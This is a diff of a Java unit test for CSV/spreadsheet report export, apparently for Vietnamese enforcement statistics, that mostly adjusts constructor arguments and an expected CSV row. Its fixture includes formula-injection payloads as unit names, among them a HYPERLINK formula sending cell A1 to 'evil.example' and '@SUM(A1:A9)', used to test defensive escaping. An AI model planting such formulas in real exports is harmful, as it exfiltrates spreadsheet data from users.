@@ -25,12 +25,12 @@ class ReportTablesTest {
 
     private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Bấm vào đây\")";
 
-    private static final AdministrativeFigures NONE = AdministrativeFigures.of(0, 0, 0);
+    private static final AdministrativeFigures NONE = AdministrativeFigures.of(0, 0, 0, 0, 0, 0);
 
     /** Child units named like formulas (the names come from the deployment's reference data). */
     private static Children children() {
         // more cases carried over than carried in: a negative reduction (-250.00 %)
-        Figures figures = Figures.of(4, 10, 0, 2, 0, 0, 0, 0);
+        Figures figures = Figures.of(4, 10, 0, 2, 0, 0, 0, 0, 0);
         return new Children("19", 2026, LocalDate.of(2026, 3, 31), List.of(
                 new ChildRow("19.01", FORMULA, false, true, figures, figures, NONE, null, 1, 1, false),
                 new ChildRow("19.02", "@SUM(A1:A9)", false, true, figures, figures, NONE, null, 2, 2, false),
@@ -63,7 +63,7 @@ class ReportTablesTest {
     void csvNumbersStayNumbersIncludingNegativeOnes() {
         String csv = ReportTables.csv(ReportTables.children(children()));
         String row = csv.split("\r\n")[5];
-        assertThat(row).startsWith("19.05,Chi cục THADS huyện Phú Bình,false,true,4,10,14,0,14,2,12,0,0,0,0,12,0,14,0.00,-250.00,");
+        assertThat(row).startsWith("19.05,Chi cục THADS huyện Phú Bình,false,true,4,10,14,0,14,2,12,0,0,0,0,0,12,0,14,0.00,-250.00,");
     }
 
     @Test
